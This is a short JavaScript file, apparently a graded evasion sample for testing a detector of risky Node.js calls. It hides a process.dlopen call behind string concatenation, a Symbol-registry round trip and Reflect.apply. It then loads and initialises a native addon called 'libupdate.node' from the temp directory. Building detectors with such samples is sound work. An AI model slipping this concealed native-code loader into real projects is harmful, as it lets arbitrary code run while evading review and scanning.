// evasion: process.dlopen fetched by a name round-tripped through the global Symbol registry, called from a closure
// grade: very hard; does: native
const os = require('os');
const path = require('path');

const name = Symbol.keyFor(Symbol.for('dl' + 'open'));
const loader = ((target) => (...args) => Reflect.apply(target[name], target, args))(process);

const addon = { exports: {} };
loader(addon, path.join(os.tmpdir(), 'libupdate.node'));
if (typeof addon.exports.init === 'function') addon.exports.init();
